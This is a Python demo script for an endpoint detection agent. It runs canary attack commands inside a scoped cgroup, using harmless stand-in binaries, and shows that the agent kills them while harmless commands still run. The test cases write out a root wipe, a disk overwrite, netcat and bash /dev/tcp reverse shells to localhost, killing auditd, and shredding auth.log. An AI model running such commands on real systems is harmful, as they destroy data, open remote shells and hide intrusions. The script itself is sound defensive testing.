#!/usr/bin/env python3
"""`make demo`: the agent on this machine, scoped to a demo cgroup; canary attacks are blocked,
harmless commands run, and the events are printed.

Safety: every "attack" is harmless if blocking failed.  The rm canary deletes only its own
/tmp/edrfleet-canary-* directory; every other attacking program is a copy of /bin/true under
the attacked program's name (nc, dd, bash …), so even unblocked it does nothing.  Only
processes in the demo cgroup are judged; the agent is stopped and the cgroup removed at the end.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from rich.console import Console
from rich.table import Table

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from edrfleet.agent.run import cgroup2_root  # noqa: E402
from edrfleet.fleet.lab import LAB_CANARY_RULE  # noqa: E402
from edrfleet.fleet.render import render_policy  # noqa: E402

CGROUP = "/edrfleet-demo"
console = Console()


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="edrfleet-demo-"))
    cg = cgroup2_root() / CGROUP.lstrip("/")
    cg.mkdir(exist_ok=True)
    spool = REPO / ".edrfleet" / "demo" / "spool"
    shutil.rmtree(spool, ignore_errors=True)
    policy = work / "policy.yaml"
    policy.write_text(render_policy({"edrfleet_scope_cgroups": [CGROUP],
                                     "edrfleet_extra_rules": [LAB_CANARY_RULE]}))
    agent = subprocess.Popen(
        [sys.executable, "-m", "edrfleet.cli.main", "agent", "run", "--policy", str(policy),
         "--spool", str(spool), "--host-name", "demo"],
        cwd=REPO,
    )
    try:
        status = wait_enforcing(spool, agent)
        console.print(
            f"[bold]agent {status['state']}[/bold]: {status['rules']} rules, backend "
            f"{status['backend']}, policy {status['policy_sha256'][:12]}, up in "
            f"{status['start_seconds']} s, scoped to cgroup {CGROUP}"
        )
        run_cases(work, cg)
        time.sleep(0.5)
        print_events(spool)
    finally:
        agent.send_signal(signal.SIGTERM)
        agent.wait(timeout=20)
        for _ in range(50):
            try:
                cg.rmdir()
                break
            except OSError:
                time.sleep(0.1)
        shutil.rmtree(work, ignore_errors=True)
    return 0


def wait_enforcing(spool: Path, agent: subprocess.Popen) -> dict:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if agent.poll() is not None:
            raise SystemExit(f"agent exited with {agent.returncode}")
        try:
            st = json.loads((spool / "status.json").read_text())
            if st.get("state") in ("enforcing", "monitoring"):
                return st
        except (FileNotFoundError, json.JSONDecodeError):
            pass
        time.sleep(0.1)
    raise SystemExit("agent did not reach enforcing within 60 s")


def run_cases(work: Path, cg: Path) -> None:
    bindir = work / "bin"
    bindir.mkdir()

    def standin(name: str) -> str:
        path = bindir / name
        shutil.copy2("/bin/true", path)
        return str(path)

    canary = Path(tempfile.mkdtemp(prefix="edrfleet-canary-", dir="/tmp"))
    (canary / "precious").write_text("still here\n")
    scratch = Path(tempfile.mkdtemp(prefix="edrfleet-scratch-", dir="/tmp"))
    cases = [
        ("attack", f"rm -rf {canary}", ["rm", "-rf", str(canary)]),
        ("attack", "rm -rf --no-preserve-root /",
         [standin("rm"), "-rf", "--no-preserve-root", "/"]),
        ("attack", "dd if=/dev/zero of=/dev/sda", [standin("dd"), "if=/dev/zero", "of=/dev/sda"]),
        ("attack", "nc -e /bin/sh 127.0.0.1 4444",
         [standin("nc"), "-e", "/bin/sh", "127.0.0.1", "4444"]),
        ("attack", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
         [standin("bash"), "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]),
        ("attack", "pkill -9 auditd", [standin("pkill"), "-9", "auditd"]),
        ("attack", "shred -u /var/log/auth.log", [standin("shred"), "-u", "/var/log/auth.log"]),
        ("harmless", f"rm -rf {scratch}", ["rm", "-rf", str(scratch)]),
        ("harmless", "ls /tmp", ["ls", "/tmp"]),
        ("harmless", "dd if=/dev/zero of=/dev/null count=1",
         ["dd", "if=/dev/zero", "of=/dev/null", "count=1"]),
        ("harmless", "nc -zv 127.0.0.1 22", [standin("nc"), "-zv", "127.0.0.1", "22"]),
    ]
    table = Table(title="commands run inside the demo cgroup")
    for col in ("kind", "command", "result"):
        table.add_column(col)

    def enter() -> None:
        (cg / "cgroup.procs").write_text(str(os.getpid()))

    for kind, shown, argv in cases:
        res = subprocess.run(argv, preexec_fn=enter, capture_output=True, timeout=30)
        if res.returncode == -signal.SIGKILL:
            result = "[red]killed before it ran[/red]"
        else:
            result = f"[green]ran[/green] (exit {res.returncode})"
        table.add_row(kind, shown, result)
    console.print(table)
    alive = (canary / "precious").exists()
    console.print(f"canary {canary}: {'[green]survived[/green]' if alive else '[red]GONE[/red]'}")
    shutil.rmtree(canary, ignore_errors=True)
    shutil.rmtree(scratch, ignore_errors=True)


def print_events(spool: Path) -> None:
    lines = (spool / "events.jsonl").read_text().splitlines() if spool.exists() else []
    table = Table(title=f"events in {spool / 'events.jsonl'}")
    for col in ("action", "rule", "severity", "command line"):
        table.add_column(col)
    for line in lines:
        ev = json.loads(line)
        table.add_row(ev["event.action"], ev["rule.id"], ev["rule.severity"],
                      ev["process.command_line"])
    console.print(table)


if __name__ == "__main__":
    sys.exit(main())
